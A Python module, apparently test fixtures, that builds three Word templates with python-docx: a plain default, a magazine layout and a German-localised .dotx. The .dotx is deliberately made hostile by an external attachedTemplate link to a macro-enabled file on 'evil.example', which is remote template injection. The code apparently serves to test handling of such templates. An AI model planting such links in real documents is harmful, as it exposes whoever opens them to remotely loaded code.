"""Templates as houses have them, made by hand: three that are well meant, and what makes one of them hostile."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Mm, Pt, RGBColor

# One red pixel.
LOGO = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain(path: Path) -> Path:
    """Word's own default document: US paper, no placeholder, styles of 2013."""
    docx.Document().save(str(path))
    return path


def magazine(path: Path) -> Path:
    """A4, logo and name in the header, text around the placeholder, own styles, a list and a footnote of its own."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin = section.right_margin = Mm(30)
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(LOGO), width=Mm(30), height=Mm(8))
    section.header.paragraphs[0].add_run("  The Lakeside Review · fact-checking desk")
    section.footer.paragraphs[0].text = "Lakeside Review, 12 Harbour Street"
    styles = document.styles
    styles["Normal"].font.name, styles["Normal"].font.size = "Georgia", Pt(10.5)
    heading = styles["Heading 1"]
    heading.font.name, heading.font.size, heading.font.color.rgb = "Georgia", Pt(20), RGBColor(0x7A, 0x1F, 0x2B)
    house = styles.add_style("House Text", WD_STYLE_TYPE.PARAGRAPH)
    house.base_style, house.font.size = styles["Normal"], Pt(11)
    document.add_paragraph("For the eyes of the desk", style="Subtitle")
    document.add_paragraph("First rule of the house", style="List Number")
    document.add_paragraph("{{report}}")
    document.add_paragraph("Filed under: checks", style="Intense Quote")
    document.save(str(path))
    return path


def agency(path: Path) -> Path:
    """A .dotx of a German Word: ids of styles are German, the first page has a header of its own, a link to a template.

    The report goes into a content control in the middle of two sections.
    """
    document = docx.Document()
    document.sections[0].different_first_page_header_footer = True
    document.sections[0].first_page_header.paragraphs[0].text = "AGENTUR NORD"
    document.sections[0].header.paragraphs[0].text = "Agentur Nord, Faktencheck"
    document.add_paragraph("Deckblatt der Agentur", style="Title")
    document.add_section()
    document.add_paragraph("factcheck goes here")
    document.add_paragraph("Ende")
    saved = io.BytesIO()
    document.save(saved)
    return changed(saved.getvalue(), path, german, as_dotx, attached)


Change = Callable[[dict[str, bytes]], None]


def changed(source: bytes, path: Path, *changes: Change) -> Path:
    """Write a package with changes to its members."""
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for change in changes:
        change(members)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def german(members: dict[str, bytes]) -> None:
    for name in ("word/styles.xml", "word/document.xml", "word/header1.xml", "word/header2.xml"):
        if name in members:
            content = members[name].decode()
            for ours, theirs in (("Heading1", "berschrift1"), ("Heading2", "berschrift2"), ("Title", "Titel")):
                content = content.replace(f'"{ours}"', f'"{theirs}"')
            members[name] = content.encode()
    sheet = members["word/styles.xml"].decode().replace('w:styleId="Normal"', 'w:styleId="Standard"')
    members["word/styles.xml"] = sheet.replace('w:val="Normal"/><w:next', 'w:val="Standard"/><w:next').replace(
        '<w:basedOn w:val="Normal"/>', '<w:basedOn w:val="Standard"/>'
    ).encode()  # fmt: skip
    body = members["word/document.xml"].decode()
    words = "<w:p><w:r><w:t>factcheck goes here</w:t></w:r></w:p>"
    assert words in body
    control = f'<w:sdt><w:sdtPr><w:tag w:val="Report"/></w:sdtPr><w:sdtContent>{words}</w:sdtContent></w:sdt>'
    members["word/document.xml"] = body.replace(words, control).encode()


def as_dotx(members: dict[str, bytes]) -> None:
    types = members["[Content_Types].xml"].decode()
    members["[Content_Types].xml"] = types.replace(f"{WORD}.document.main", f"{WORD}.template.main").encode()


def attached(members: dict[str, bytes]) -> None:
    """A link to a template on somebody's server."""
    settings = members["word/settings.xml"].decode()
    end = settings.index(">", settings.index("<w:settings")) + 1
    members["word/settings.xml"] = (
        f'{settings[:end]}<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId77"/>{settings[end:]}'.encode()
    )
    linked(members, "settings", "attachedTemplate", "http://evil.example/house.dotm")


def linked(members: dict[str, bytes], part: str, kind: str, target: str, *, external: bool = True) -> None:
    """Add a relationship to a part of the document."""
    name = f"word/_rels/{part}.xml.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId77" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    members[name] = members.get(name, empty).replace(b"</Relationships>", link.encode())


TEMPLATES: dict[str, Callable[[Path], Path]] = {"plain.docx": plain, "magazine.docx": magazine, "agency.dotx": agency}
